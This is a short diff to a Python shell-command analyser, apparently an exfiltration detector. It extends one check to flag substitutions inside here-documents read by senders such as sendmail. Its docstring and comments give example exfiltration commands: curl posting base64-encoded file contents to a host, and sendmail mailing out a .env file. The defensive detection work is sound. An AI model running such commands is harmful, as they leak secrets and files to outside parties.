@@ -1325,11 +1325,17 @@ _REMOTE_COPIERS: Final = frozenset({"scp", "rsync", "sftp", "rclone"})
 def _output_sent(cmd: SimpleCommand, parsed: ParsedShell) -> bool:
     """Whether ``cmd`` runs inside a command substitution whose output a sender puts on the
     wire: ``curl "http://h/?d=$(cat f | base64)"``, or through a variable, ``d=$(cat f);
-    curl "http://h/?d=$d"`` (the sender's words keep the substitution, its value unknown)."""
+    curl "http://h/?d=$d"`` (the sender's words keep the substitution, its value unknown), or
+    in a here-document the sender reads (``sendmail -t <<EOF … $(cat .env) …``)."""
     if not cmd.via or cmd.via[-1] not in ("$(…)", "`…`"):
         return False
     return any(
-        c.program in SENDERS and any("$(" in w or "`" in w for w in c.argv[1:])
+        c.program in SENDERS
+        and (
+            any("$(" in w or "`" in w for w in c.argv[1:])
+            # a here-document that runs it: sendmail <<EOF … $(cat .env) … EOF
+            or (c.stdin_text is not None and ("$(" in c.stdin_text or "`" in c.stdin_text))
+        )
         for c in parsed.commands
     )
 
